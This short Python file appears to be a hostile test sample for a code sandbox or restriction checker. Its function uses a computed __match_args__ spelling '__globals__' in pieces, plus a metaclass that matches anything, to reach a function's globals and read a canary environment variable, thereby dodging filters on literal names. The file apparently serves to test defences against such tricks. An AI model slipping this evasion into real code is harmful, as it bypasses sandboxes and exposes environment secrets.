"""Hostile: a class pattern reads the attribute named in a computed __match_args__.

`case _G(namespace)` reads subject.<_G.__match_args__[0]>: here __globals__, built from
pieces so that no literal names it.  A metaclass whose __instancecheck__ says yes to
everything makes a function match the pattern.
"""

from fractions import Fraction


class _Everything(type):
    def __instancecheck__(cls, instance: object) -> bool:
        return True


class _G(metaclass=_Everything):
    __match_args__ = ("__glo" + "bals__",)


def f(x: int) -> int:
    match Fraction.__new__:
        case _G(namespace):
            secret = namespace["sys"].modules["os"].environ.get("DERIVATIVE_CANARY")
            if secret:
                print("DERIVATIVE-BREACH match_args_computed:", secret, flush=True)
                raise ValueError(f"canary {secret}")
    return x + 1
